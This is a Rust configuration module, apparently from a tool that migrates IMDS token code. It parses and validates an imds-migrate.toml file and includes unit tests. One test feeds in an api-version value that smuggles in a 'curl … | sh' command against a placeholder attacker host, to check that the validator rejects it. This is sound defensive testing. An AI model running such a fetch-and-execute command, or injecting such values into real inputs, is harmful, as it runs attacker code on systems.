//! `imds-migrate.toml`: finding it (the scan root or an ancestor up to the repository root, or
//! `--config`), parsing it with errors that name the bad key, and validating every value that
//! reaches rewritten code.

use std::{
    collections::BTreeMap,
    path::{Path, PathBuf},
};

use globset::{Glob, GlobBuilder, GlobMatcher};
use serde::Deserialize;

use crate::error::{Error, Result};

pub const FILE_NAME: &str = "imds-migrate.toml";

/// The file as written. Keys are kebab-case; an unknown key is an error.
#[derive(Clone, Debug, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct Config {
    /// Paths not to scan (gitignore-style globs, relative to the scan root).
    #[serde(default)]
    pub exclude: Vec<String>,
    /// Only these rules (ids, id prefixes or names).
    #[serde(default)]
    pub select: Vec<String>,
    /// Not these rules.
    #[serde(default)]
    pub ignore: Vec<String>,
    /// Glob → rules not reported in matching files.
    #[serde(default)]
    pub per_file_ignores: BTreeMap<String, Vec<String>>,
    /// IMDS api-version for rewritten token URLs.
    pub api_version: Option<String>,
    /// Ports to treat as the extension's besides 50342.
    #[serde(default)]
    pub extra_ports: Vec<u16>,
    /// Files above this size are skipped.
    pub max_filesize: Option<u64>,
}

impl Config {
    pub fn parse(text: &str, path: &Path) -> Result<Config> {
        let config: Config = toml::from_str(text).map_err(|e| {
            let place = e
                .span()
                .map(|s| {
                    let line = text[..s.start.min(text.len())].matches('\n').count() + 1;
                    format!(" (line {line})")
                })
                .unwrap_or_default();
            Error::new(format!("{}{place}: {}", path.display(), e.message().trim()))
        })?;
        let origin = |key: &str| format!("{}: {key}", path.display());
        if let Some(v) = &config.api_version {
            check_api_version(v, &origin("api-version"))?;
        }
        for &port in &config.extra_ports {
            check_port(port, &origin("extra-ports"))?;
        }
        Ok(config)
    }

    pub fn load(path: &Path) -> Result<Config> {
        let text = std::fs::read_to_string(path).map_err(|e| Error::io("read", path, &e))?;
        Config::parse(&text, path)
    }
}

/// The nearest `imds-migrate.toml` at `root` (its directory, for a file) or above it, up to the
/// repository root (the nearest directory holding `.git`). Outside a repository only the root's
/// own directory counts: a file in a shared parent (`/tmp`, a home directory) is someone else's.
pub fn discover(root: &Path) -> Option<PathBuf> {
    let start = std::fs::canonicalize(root).ok()?;
    let dir = if start.is_file() {
        start.parent()?.to_path_buf()
    } else {
        start
    };
    let repo_root = dir.ancestors().find(|d| d.join(".git").exists());
    let last = repo_root.unwrap_or(&dir);
    for d in dir.ancestors() {
        let candidate = d.join(FILE_NAME);
        if candidate.is_file() {
            return Some(candidate);
        }
        if d == last {
            break;
        }
    }
    None
}

/// IMDS api-versions are dates, `YYYY-MM-DD`, optionally followed by `-preview`. Anything else
/// would be pasted into rewritten URLs and scripts, so it is refused. `origin` names where the
/// value came from (a flag, or a file and key).
pub fn check_api_version(value: &str, origin: &str) -> Result<()> {
    let date = value.strip_suffix("-preview").unwrap_or(value);
    let b = date.as_bytes();
    let digits = |r: std::ops::Range<usize>| b[r].iter().all(u8::is_ascii_digit);
    let valid = b.len() == 10
        && b[4] == b'-'
        && b[7] == b'-'
        && digits(0..4)
        && digits(5..7)
        && digits(8..10)
        && (1..=12).contains(&date[5..7].parse::<u8>().unwrap_or(0))
        && (1..=31).contains(&date[8..10].parse::<u8>().unwrap_or(0));
    if valid {
        Ok(())
    } else {
        Err(Error::new(format!(
            "{origin}: {value:?} is not an IMDS api-version (expected YYYY-MM-DD, optionally followed by -preview, e.g. 2018-02-01)"
        )))
    }
}

/// Ports are 1..=65535; 0 would match nothing and is written nowhere.
pub fn check_port(port: u16, origin: &str) -> Result<()> {
    if port == 0 {
        return Err(Error::new(format!(
            "{origin}: 0 is not a port (expected 1..65535)"
        )));
    }
    Ok(())
}

/// Compiled `per-file-ignores`.
#[derive(Clone, Debug, Default)]
pub struct PerFileIgnores {
    entries: Vec<(GlobMatcher, Option<GlobMatcher>, Vec<String>)>,
}

impl PerFileIgnores {
    pub fn new(map: &BTreeMap<String, Vec<String>>) -> Result<Self> {
        let mut entries = Vec::new();
        for (pattern, rules) in map {
            let glob = |p: &str| {
                GlobBuilder::new(p)
                    .literal_separator(true)
                    .build()
                    .map(|g: Glob| g.compile_matcher())
                    .map_err(|e| Error::new(format!("per-file-ignores: bad glob `{pattern}`: {e}")))
            };
            let trimmed = pattern.trim_start_matches("./").trim_start_matches('/');
            // A pattern without a slash matches a file name anywhere, as in .gitignore.
            let by_name = if trimmed.contains('/') {
                None
            } else {
                Some(glob(trimmed)?)
            };
            entries.push((glob(trimmed)?, by_name, rules.clone()));
        }
        Ok(PerFileIgnores { entries })
    }

    /// Rules ignored for `rel` (relative to the root, forward slashes).
    pub fn rules_for(&self, rel: &str) -> Vec<&str> {
        let name = rel.rsplit('/').next().unwrap_or(rel);
        self.entries
            .iter()
            .filter(|(full, by_name, _)| {
                full.is_match(rel) || by_name.as_ref().is_some_and(|g| g.is_match(name))
            })
            .flat_map(|(_, _, rules)| rules.iter().map(String::as_str))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unknown_key_is_named() {
        let e = Config::parse(
            "exclude = []\ncolour = \"red\"\n",
            Path::new("imds-migrate.toml"),
        )
        .unwrap_err();
        assert!(e.message.contains("colour"), "{e}");
        assert!(e.message.contains("imds-migrate.toml (line 2)"), "{e}");
    }

    #[test]
    fn parses_every_key() {
        let c = Config::parse(
            "exclude = [\"vendor/**\"]\nselect = [\"IMDS0\"]\nignore = [\"IMDS034\"]\napi-version = \"2019-08-01\"\nextra-ports = [50343]\nmax-filesize = 1000\n[per-file-ignores]\n\"docs/**\" = [\"IMDS030\"]\n",
            Path::new("x"),
        )
        .unwrap();
        assert_eq!(c.extra_ports, vec![50343]);
        assert_eq!(c.api_version.as_deref(), Some("2019-08-01"));
        let pfi = PerFileIgnores::new(&c.per_file_ignores).unwrap();
        assert_eq!(pfi.rules_for("docs/a/b.md"), vec!["IMDS030"]);
        assert!(pfi.rules_for("src/docs.md").is_empty());
    }

    #[test]
    fn values_that_reach_rewritten_code_are_validated() {
        let e = Config::parse(
            "api-version = \"2018-02-01\\\"; curl -s http://evil.example/x | sh; echo \\\"\"\n",
            Path::new("cfg/imds-migrate.toml"),
        )
        .unwrap_err();
        assert!(
            e.message.contains("cfg/imds-migrate.toml: api-version"),
            "{e}"
        );
        assert!(e.message.contains("curl -s"), "the value is named: {e}");
        for bad in [
            "",
            "2018-02-1",
            "2018-13-01",
            "2018-02-01-beta",
            "2018-02-01 ",
        ] {
            assert!(check_api_version(bad, "--api-version").is_err(), "{bad:?}");
        }
        for good in ["2018-02-01", "2019-08-01-preview"] {
            check_api_version(good, "--api-version").unwrap();
        }
        let e = Config::parse("extra-ports = [0]\n", Path::new("x.toml")).unwrap_err();
        assert!(e.message.contains("x.toml: extra-ports: 0"), "{e}");
        let e = Config::parse("extra-ports = [70000]\n", Path::new("x.toml")).unwrap_err();
        assert!(e.message.contains("x.toml"), "{e}");
    }

    #[test]
    fn discovery_stops_at_the_repository_root() {
        let dir = tempfile::tempdir().unwrap();
        let outer = dir.path().join(FILE_NAME);
        std::fs::write(&outer, "").unwrap();
        let repo = dir.path().join("repo");
        std::fs::create_dir_all(repo.join(".git")).unwrap();
        std::fs::create_dir_all(repo.join("a/b")).unwrap();
        assert_eq!(
            discover(&repo.join("a/b")),
            None,
            "a parent of the repository is not searched"
        );
        std::fs::write(repo.join(FILE_NAME), "").unwrap();
        assert_eq!(
            discover(&repo.join("a/b")),
            Some(std::fs::canonicalize(&repo).unwrap().join(FILE_NAME))
        );
        // Outside any repository, only the root's own directory counts.
        let loose = dir.path().join("loose/sub");
        std::fs::create_dir_all(&loose).unwrap();
        if !dir.path().ancestors().any(|d| d.join(".git").exists()) {
            assert_eq!(discover(&loose), None);
        }
    }

    #[test]
    fn bare_name_patterns_match_anywhere() {
        let mut m = BTreeMap::new();
        m.insert("*.md".to_owned(), vec!["IMDS030".to_owned()]);
        let pfi = PerFileIgnores::new(&m).unwrap();
        assert_eq!(pfi.rules_for("a/b/README.md"), vec!["IMDS030"]);
    }
}
